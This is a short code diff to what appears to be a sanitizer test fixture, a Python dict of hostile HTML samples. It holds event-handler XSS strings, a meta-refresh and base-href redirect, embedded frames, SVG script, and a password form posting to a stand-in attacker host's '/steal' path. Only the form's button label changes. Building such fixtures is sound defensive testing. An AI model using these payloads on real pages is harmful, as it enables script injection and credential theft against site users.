@@ -11,7 +11,7 @@ HARM = {
     "handlers": f"<img src=x onerror='{RUN}'><body onload='{RUN}'><details open ontoggle='{RUN}'>"
     f"<input autofocus onfocus='{RUN}'>",
     "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'><base href='{EVIL}/' target=_top><p>words</p>",
-    "form": f"<form action='{EVIL}/steal' method=post><input name=password><button>Sign in</button></form>",
+    "form": f"<form action='{EVIL}/steal' method=post><input name=password><button>Go on</button></form>",
     "frames": f"<iframe src='{EVIL}/'></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>"
     f"<object data='{EVIL}/o'></object><embed src='{EVIL}/e'>",
     "svg": f"<svg onload='{RUN}'><script>{RUN}</script><image href='{EVIL}/s.png'/>"
